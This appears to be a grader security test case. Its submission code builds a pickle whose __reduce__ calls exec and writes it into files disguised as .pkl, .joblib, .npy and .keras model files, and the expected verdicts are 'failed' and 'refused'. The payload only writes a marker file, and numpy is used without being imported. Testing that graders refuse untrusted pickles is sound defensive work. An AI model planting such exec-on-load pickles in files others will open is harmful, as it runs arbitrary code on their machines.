# title = "Pickles in every file that a careless grader might load"
# trace = "wrote 5 files"
# verdicts = { test_word = ["failed", "refused"], test_array = ["failed", "refused"] }
#
# %% word
import pickle
import zipfile


class Bomb:
    def __reduce__(self):
        return exec, ("open('/tmp/unpickled', 'w').write('ran')",)


bomb = pickle.dumps(Bomb())
for name in ("word.pkl", "model.joblib", "gradebook.pickle"):
    with open(name, "wb") as file:
        file.write(bomb)
np.save("array.npy", np.array([Bomb()], dtype=object), allow_pickle=True)
with zipfile.ZipFile("model.keras", "w") as archive:
    archive.writestr("config.json", "{}")
    archive.writestr("model.weights.h5", bomb)
print("wrote 5 files")
word = bomb
# %% array
array = open("array.npy", "rb").read()
